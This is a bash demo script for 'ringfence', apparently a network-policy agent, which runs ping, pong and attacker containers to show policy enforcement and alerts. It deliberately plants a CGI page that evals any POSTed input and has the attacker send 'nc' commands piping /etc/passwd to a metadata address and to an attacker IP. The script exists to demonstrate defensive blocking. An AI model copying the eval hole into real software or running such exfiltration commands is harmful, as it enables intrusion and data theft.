#!/bin/bash
# Three containers of runc, ping, pong and an attacker, each in a network namespace of its own. An agent keeps the first two under their
# profiles. A rule is taken away and given back; then the attacker has pong run commands.
set -euo pipefail
cd "$(dirname "${BASH_SOURCE[0]}")"

ringfence=../../ringfence
wire=rf-demo-wire
names=(ping pong attacker)
declare -A address=([ping]=10.77.0.3 [pong]=10.77.0.2 [attacker]=10.77.0.9)
cgroups=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/mounts)
work=$(mktemp -d)
agent=

say() {
  if [[ -t 1 && -z ${NO_COLOR:-} ]]; then printf '\n\033[1m%s\033[0m\n' "$1"; else printf '\n%s\n' "$1"; fi
}

remove_networks() {
  for name in "${names[@]}"; do ip netns del "rf-demo-$name" 2>/dev/null || true; done
  ip netns del "$wire" 2>/dev/null || true
}

clean_up() {
  for name in "${names[@]}"; do runc --root "$work/runc" delete --force "$name" 2>/dev/null || true; done
  if [[ -n $agent ]]; then
    kill "$agent" 2>/dev/null || true
    wait "$agent" 2>/dev/null || true
    "$ringfence" off --config "$work/ringfence.yaml" >/dev/null 2>&1 || true
  fi
  remove_networks
  umount "$work/bpf" 2>/dev/null || true
  for _ in {1..50}; do
    find "$cgroups/ringfence-demo" -depth -type d -exec rmdir {} \; 2>/dev/null || true
    [[ -d $cgroups/ringfence-demo ]] || break
    sleep 0.1
  done
  rm -rf "$work"
}
trap clean_up EXIT
trap 'exit 130' INT TERM

make_networks() {
  remove_networks
  ip netns add "$wire"
  ip -n "$wire" link add br0 type bridge
  ip -n "$wire" link set br0 up
  for name in "${names[@]}"; do
    ip netns add "rf-demo-$name"
    ip -n "rf-demo-$name" link add name eth0 type veth peer name "$name" netns "$wire"
    ip -n "rf-demo-$name" addr add "${address[$name]}/24" dev eth0
    ip -n "rf-demo-$name" link set eth0 up
    ip -n "rf-demo-$name" link set lo up
    ip -n "rf-demo-$name" route add default via 10.77.0.9
    ip -n "$wire" link set "$name" master br0
    ip -n "$wire" link set "$name" up
  done
}

# Files that all three share: busybox, and a page that runs whatever it is sent.
make_files() {
  mkdir -p "$work"/rootfs/{bin,etc,www/cgi-bin,proc,dev,sys,tmp}
  cp "$(command -v busybox)" "$work/rootfs/bin/busybox"
  for applet in sh httpd nc sed sleep cat; do ln -s busybox "$work/rootfs/bin/$applet"; done
  echo 'root:x:0:0' >"$work/rootfs/etc/passwd"
  echo pong >"$work/rootfs/www/index.html"
  printf '#!/bin/sh\necho "Content-Type: text/plain"; echo\neval "$(cat)" 2>&1\n' >"$work/rootfs/www/cgi-bin/task"
  chmod 755 "$work/rootfs/www/cgi-bin/task"
}

# start NAME COMMAND: its output goes to a file of its name.
start() {
  local bundle=$work/bundle-$1
  mkdir "$bundle"
  runc spec --bundle "$bundle"
  node bundle.mjs "$bundle/config.json" "$work/rootfs" "$1" "$2"
  runc --root "$work/runc" run --bundle "$bundle" "$1" >"$work/$1" 2>&1 </dev/null &
}

# until_last FILE PATTERN: waits until the last line of a file is so, and says how many ms that took.
until_last() {
  local since
  since=$(date +%s%3N)
  for _ in {1..300}; do
    if tail -n 1 "$1" | grep -q "$2"; then
      echo "   after $(($(date +%s%3N) - since)) ms ping says: $(tail -n 1 "$1")"
      return
    fi
    sleep 0.02
  done
  echo "demo: $1 does not say \"$2\" but: $(tail -n 1 "$1")" >&2
  exit 1
}

[[ $(id -u) == 0 ]] || { echo 'demo: needs root, for containers and BPF: sudo make demo' >&2; exit 1; }
mkdir "$work/bpf" "$work/profiles"
mount -t bpf bpf "$work/bpf"
mkdir -p "$cgroups/ringfence-demo"
sed "s#WORK#$work#" ringfence.yaml >"$work/ringfence.yaml"
cp pong.yaml ping.yaml "$work/profiles"
make_networks
make_files

say '1. An agent with the profiles of ping and pong; then the containers.'
"$ringfence" agent --config "$work/ringfence.yaml" >"$work/agent" 2>&1 &
agent=$!
for _ in {1..200}; do
  grep -q 'agent: started' "$work/agent" && break
  sleep 0.1
done
# a new container is closed until the agent knows whose it is: some 0.1 s
start pong 'until httpd -f -p 80 -h /www 2>/dev/null; do sleep 0.05; done'
start attacker 'until httpd -f -p 80 -h /www 2>/dev/null; do sleep 0.05; done'
start ping 'while :; do printf "GET / HTTP/1.0\r\n\r\n" | nc -w 2 10.77.0.2 80 2>&1 | sed -n "\$p"; sleep 0.2; done'
until_last "$work/ping" '^pong'
"$ringfence" status --config "$work/ringfence.yaml" | grep -E '^(covered|policy|  enforce)' | sed 's/^/   /'

say '2. The rule that lets ping ask pong is taken out of its file, and put back.'
cp ping-closed.yaml "$work/profiles/ping.yaml"
until_last "$work/ping" 'not permitted'
cp ping.yaml "$work/profiles/ping.yaml"
until_last "$work/ping" '^pong'

say '3. The attacker has pong run commands: fetch credentials of the cloud, and send something home.'
for target in 169.254.169.254 10.77.0.9; do
  task="nc -w 2 $target 80 </etc/passwd"
  request="POST /cgi-bin/task HTTP/1.0\r\nContent-Length: ${#task}\r\n\r\n$task"
  runc --root "$work/runc" exec attacker sh -c "printf '$request' | nc -w 5 10.77.0.2 80" | sed -n 's/^nc: /   pong: /p'
done

say '4. What the agent saw'
for _ in {1..100}; do
  "$ringfence" observe --config "$work/ringfence.yaml" --json --type alert >"$work/alerts"
  "$ringfence" observe --config "$work/ringfence.yaml" --json --type verdict --verdict denied --process nc --to 10.77.0.9 >"$work/denials"
  [[ -s $work/alerts && -s $work/denials ]] && break
  sleep 0.2
done
node tell.mjs "$work/alerts" "$work/denials"
